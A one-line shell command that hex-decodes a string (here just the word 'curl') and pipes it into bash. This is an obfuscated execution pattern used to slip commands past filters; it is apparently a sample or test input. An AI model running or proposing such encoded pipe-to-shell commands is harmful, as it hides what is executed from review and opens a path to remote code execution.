echo 6375726c | xxd -r -p | bash
